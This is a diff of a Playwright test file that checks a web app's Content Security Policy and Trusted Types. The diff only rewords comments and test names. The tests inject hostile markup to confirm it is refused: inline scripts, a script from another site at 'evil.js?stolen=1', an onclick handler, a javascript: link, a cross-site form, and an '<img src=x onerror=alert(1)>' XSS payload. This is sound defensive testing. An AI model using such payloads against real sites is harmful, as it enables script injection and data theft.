@@ -33,7 +33,7 @@ async function openPage(): Promise<Page> {
   return context.newPage()
 }
 
-/** The page as it would come if somebody's markup had found a way into it. The headers stay the server's. */
+/** Serves the page with injected markup, and the server's own headers. */
 async function openWithMarkup(markup: string): Promise<Page> {
   const page = await openPage()
   await page.route(address + PAGE, async (route) => {
@@ -45,7 +45,7 @@ async function openWithMarkup(markup: string): Promise<Page> {
   return page
 }
 
-/** What injected code leaves behind when it runs. */
+/** The value that injected code sets when it runs. */
 const markOf = (page: Page): Promise<unknown> => page.evaluate((): unknown => Reflect.get(window, 'injected'))
 
 const reported = async (): Promise<readonly string[]> => {
@@ -53,54 +53,54 @@ const reported = async (): Promise<readonly string[]> => {
   return rows.map(({ message, path: page }) => `${message} on ${page}`)
 }
 
-/** Beside it may stand a late one of the test before. */
+/** Ignores other violations, because a late one of the previous test may be reported too. */
 const expectReport = (report: unknown) => expect.poll(reported).toEqual(expect.arrayContaining([report]))
 
-describe('what gets into a page', () => {
-  it('as a script does not run', async () => {
+describe('injected content', () => {
+  it('does not run as a script', async () => {
     const page = await openWithMarkup('<script>window.injected = "inline"</script>')
     expect(await markOf(page)).toBeUndefined()
     await expectReport(`script-src-elem refused inline from ${address}${PAGE} on ${PAGE}`)
   })
 
-  it('as a script of another site is not fetched', async () => {
+  it('is not loaded as a script of another site', async () => {
     const page = await openWithMarkup(`<script src="${otherSite.address}/evil.js?stolen=1"></script>`)
     expect(await markOf(page)).toBeUndefined()
     await expectReport(`script-src-elem refused ${otherSite.address}/evil.js on ${PAGE}`)
   })
 
-  it('as an event handler does not run', async () => {
+  it('does not run as an event handler', async () => {
     const page = await openWithMarkup('<button id="trap" onclick="window.injected = 1">Trap</button>')
     await page.locator('#trap').click()
     expect(await markOf(page)).toBeUndefined()
-    // Older browsers name the page as the place as well.
+    // Older browsers report the page as the source, too.
     await expectReport(expect.stringMatching(/^script-src-attr refused inline( from \S+)? on \/\S+$/))
   })
 
-  it('as a javascript: link leads nowhere', async () => {
+  it('does nothing as a javascript: link', async () => {
     const page = await openWithMarkup('<a id="trap" href="javascript:window.injected = 1">Trap</a>')
     await page.locator('#trap').click()
     await expectReport(`script-src-elem refused inline from ${address}${PAGE} on ${PAGE}`)
     expect(await markOf(page)).toBeUndefined()
   })
 
-  it('as a style changes nothing', async () => {
+  it('changes nothing as a style', async () => {
     const page = await openWithMarkup('<style>h1 { visibility: hidden }</style>')
     expect(await page.locator('h1').isVisible()).toBe(true)
     await expectReport(`style-src-elem refused inline from ${address}${PAGE} on ${PAGE}`)
   })
 
-  it('as a form sends nothing to another site', async () => {
+  it('sends nothing to another site as a form', async () => {
     const page = await openWithMarkup(`<form action="${otherSite.address}/"><button id="trap">Trap</button></form>`)
-    // No waiting: a form that was refused leaves the browser expecting a page that never comes.
+    // Does not wait for a navigation, because after a refused form the page never arrives.
     await page.locator('#trap').click({ noWaitAfter: true })
     await expectReport(`form-action refused ${otherSite.address}/ on ${PAGE}`)
     expect(page.url()).toBe(address + PAGE)
   })
 })
 
-describe('a page that is kept', () => {
-  it('stands again when the server says that it has not changed', async () => {
+describe('a cached page', () => {
+  it('works again when the server answers that it has not changed', async () => {
     const page = await openPage()
     await page.goto(address + PAGE)
     await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined))
@@ -112,7 +112,7 @@ describe('a page that is kept', () => {
   })
 })
 
-/** Assigns the text as markup, and answers the name of the error or what stands there then. */
+/** Assigns a string as markup. Returns the name of the error, or the resulting content. */
 const assign = (page: Page, text: string): Promise<string> =>
   page.evaluate((html) => {
     const element = document.createElement('div')
@@ -125,19 +125,19 @@ const assign = (page: Page, text: string): Promise<string> =>
     }
   }, text)
 
-describe('code of ours', () => {
-  it('cannot make markup of a string', async () => {
+describe('our own code', () => {
+  it('cannot turn a string into markup', async () => {
     const page = await openWithMarkup('')
     expect(await assign(page, '<img src=x onerror=alert(1)>')).toBe('TypeError')
     await expectReport(`require-trusted-types-for refused Element innerHTML on ${PAGE}`)
   })
 
-  it('may empty an element, which React Aria does to its announcements', async () => {
+  it('can empty an element, as React Aria does with its announcements', async () => {
     const page = await openWithMarkup('')
     expect(await assign(page, '')).toBe('')
   })
 
-  it('cannot load a worker from anywhere but the service worker', async () => {
+  it('cannot load any worker except the service worker', async () => {
     const page = await openWithMarkup('')
     const refusal = page.evaluate(() => navigator.serviceWorker.register('/theme.js'))
     await expect(refusal).rejects.toThrow('TrustedScriptURL')
@@ -154,7 +154,7 @@ describe('another site', () => {
   it('cannot show our pages in a frame', async () => {
     const page = await openPage()
     await page.goto(`${otherSite.address}/frame?${encodeURIComponent(address + PAGE)}`)
-    // The browser tells of the framing page as the document, and of ours as what was refused.
+    // The browser reports the framing page as the document, and our page as the refused resource.
     await expectReport(`frame-ancestors refused ${address}/ on /`)
     expect(page.frames().map((frame) => frame.url())).not.toContain(address + PAGE)
   })
